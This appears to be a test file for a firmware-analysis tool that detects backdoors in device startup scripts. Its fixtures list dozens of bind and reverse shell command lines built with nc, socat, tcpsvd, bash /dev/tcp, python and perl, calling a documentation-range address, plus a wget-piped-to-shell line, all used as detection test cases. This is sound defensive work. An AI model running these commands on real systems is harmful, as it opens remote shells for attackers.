"""Which command lines open a door, and which do not."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from firmward.facts.collection import Collection
from firmward.facts.entrances import Entrance, Entrances, Kind, parse
from firmward.facts.startup import Manager, Process, Socket, Start, Startup
from firmward.model.location import Location
from firmward.model.memory import MemoryTree

AT = Location("etc/init.d/rcS", 1)


def process(line: str, manager: Manager = Manager.SYSV, sockets: tuple[Socket, ...] = ()) -> Process:
    return Process(tuple(shlex.split(line)), "S50x", manager, Start.BOOT, AT, sockets=sockets)


def doors(line: str, manager: Manager = Manager.SYSV, sockets: tuple[Socket, ...] = ()) -> list[Entrance]:
    return list(parse(process(line, manager, sockets)))


BACKDOORS = {
    "telnetd -l /bin/sh": None,
    "telnetd -p 2323 -l/bin/sh": 2323,
    "/usr/sbin/telnetd -F -b 0.0.0.0:24 -l /bin/ash": 24,
    "busybox telnetd -l /bin/sh -p 9000": 9000,
    "utelnetd -d -l /bin/sh": None,
    "in.telnetd -E '/bin/bash -i'": None,
    "nc -l -p 4444 -e /bin/sh": 4444,
    "nc -lp 4444 -e /bin/sh": 4444,
    "nc -lvp 4444 -e sh": 4444,
    "busybox nc -ll -p 4444 -e /bin/sh -i": 4444,
    "toybox nc -l -p 4444 -e /bin/sh": 4444,
    "ncat -lk 4444 -c /bin/bash": 4444,
    "ncat --listen -p 4444 --sh-exec sh": 4444,
    "ncat -l 4444 --exec /bin/bash": 4444,
    "nc.traditional -l -p 4444 -e 'busybox sh'": 4444,
    "nc -e /bin/sh 192.0.2.1 4444": 4444,
    "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh": 4444,
    "socat tcp-l:4444 exec:'bash -li',pty,stderr": 4444,
    "socat OPENSSL-LISTEN:4444,cert=x SYSTEM:/bin/ash": 4444,
    "socat TCP:192.0.2.1:4444 EXEC:/bin/sh": None,
    "tcpsvd 0 4444 /bin/sh": 4444,
    "tcpsvd -vE 0.0.0.0 4444 /bin/sh -i": 4444,
    "tcpsvd -c 5 -u root 0 4444 busybox sh": 4444,
    "setsid nc -l -p 4444 -e /bin/sh": 4444,
    "nice -n 5 nohup nc -l -p 4444 -e /bin/sh": 4444,
    "env PATH=/bin nc -l -p 4444 -e /bin/sh": 4444,
    "start-stop-daemon -S -b -x /bin/nc -- -l -p 4444 -e /bin/sh": 4444,
    "sh -c 'while true; do :; done; nc -l -p 4444 -e /bin/sh'": 4444,
    "sh -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'": None,
    'python3 -c \'import socket,pty;s=socket.socket();s.bind(("",44));s.listen();pty.spawn("/bin/sh")\'': None,
    "perl -e 'use Socket;socket(S,PF_INET);exec(\"/bin/sh -i\")'": None,
    "ttyd -p 7681 bash": 7681,
}
NO_BACKDOORS = (
    "telnetd",
    "telnetd -l /bin/login",
    "telnetd -l /usr/sbin/cli",
    "nc -l -p 4444",
    "nc -l -p 4444 -e /usr/bin/report",
    "nc 192.0.2.1 4444",
    "socat TCP-LISTEN:502,fork /dev/ttyS1,raw",
    "socat TCP-LISTEN:502,fork EXEC:/usr/bin/modbus",
    "tcpsvd -vE 0.0.0.0 21 ftpd -w /",
    "sh -i",
    "sh /etc/rc.local",
    "python3 -c 'import socket; socket.gethostname()'",
    "ttyd -c me:secret bash",
    "ttyd login",
    "httpd -h /www",
    "",
)


@pytest.mark.parametrize(("line", "port"), BACKDOORS.items())
def test_a_shell_without_a_login_is_a_backdoor(line: str, port: int | None) -> None:
    found = [door for door in doors(line) if door.kind is Kind.BACKDOOR]
    assert [door.port for door in found] == [port]


@pytest.mark.parametrize("line", NO_BACKDOORS)
def test_other_programs_are_no_backdoors(line: str) -> None:
    assert [door for door in doors(line or "true") if door.kind is Kind.BACKDOOR] == []


@pytest.mark.parametrize("manager", [Manager.INETD, Manager.XINETD])
@pytest.mark.parametrize("line", ["sh -i", "/bin/bash", "busybox sh", "tcpd /bin/sh"])
def test_a_shell_behind_inetd_is_a_backdoor(line: str, manager: Manager) -> None:
    sockets = (Socket("tcp", 9999),)
    assert [(door.kind, door.port) for door in doors(line, manager, sockets)] == [(Kind.BACKDOOR, 9999)]


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("/usr/sbin/in.telnetd", Kind.TELNET),
        ("tcpd in.telnetd", Kind.TELNET),
        ("vsftpd /etc/vsftpd.conf", Kind.FTP),
        ("tcpsvd -vE 0 21 ftpd -w /", Kind.FTP),
        ("in.rshd -L", Kind.REMOTE_SHELL),
        ("busybox getty -L ttyS0 115200", Kind.CONSOLE),
        ("dropbear -R", Kind.SSH),
    ],
)
def test_a_server_is_known_by_its_program(line: str, kind: Kind) -> None:
    assert [door.kind for door in doors(line)] == [kind]


@pytest.mark.parametrize(
    ("option", "local"), [("-b 127.0.0.1", True), ("-b 127.0.0.1:23", True), ("-b 10.0.0.1", False)]
)
def test_the_loopback_is_told_apart(option: str, local: bool) -> None:
    assert doors(f"telnetd {option}")[0].is_local is local


@pytest.mark.parametrize(
    ("line", "calls_out"),
    [
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", True),
        ("nc -lk -p 4444 | /bin/sh", False),
        ("cat /tmp/f | /bin/sh -i 2>&1 | nc -l -p 4444 > /tmp/f", False),
        ("cat /tmp/f | sh | nc 192.0.2.1 4444 > /tmp/f", True),
    ],
)
def test_pipes_and_redirections_are_read_from_the_line(line: str, calls_out: bool) -> None:
    found = list(parse(process("true"), line))
    assert [(door.kind, door.calls_out) for door in found] == [(Kind.BACKDOOR, calls_out)]


@pytest.mark.parametrize("line", ["nc -l -p 99 | tee log", "wget -O- http://x | sh", "echo sh | nc 192.0.2.1 9 # x"])
def test_other_pipes_are_no_doors(line: str) -> None:
    assert list(parse(process("true"), line)) == []


def test_what_is_not_started_is_no_door() -> None:
    off = Process(("telnetd",), "telnet", Manager.SYSV, Start.DISABLED, AT)
    assert found_in(Startup(Manager.SYSV, (off,))).doors == ()


def test_a_program_without_a_known_name_is_unread() -> None:
    assert found_in(Startup(Manager.SYSV, (process("$DAEMON -x"),))).unread


def test_what_the_start_up_could_not_read_is_unread() -> None:
    assert found_in(Startup(Manager.SYSV, (), ("etc/rc.local cannot be read",))).unread


def found_in(startup: Startup) -> Entrances:
    collection = Collection(MemoryTree({}))
    collection._families[Startup] = startup
    found = collection.get(Entrances)
    assert isinstance(found, Entrances)
    return found


WORDS = st.sampled_from(
    ["nc", "sh", "-c", "-l", "-e", "busybox", "tcpsvd", "env", "--", "-p", "4444", "socat", "", "-b", ":"]
)


@given(st.lists(WORDS | st.text(max_size=8), min_size=1, max_size=8), st.text(max_size=60))
def test_any_command_line_can_be_asked(words: list[str], line: str) -> None:
    list(parse(Process(tuple(words), "x", Manager.INETD, Start.BOOT, AT), line))
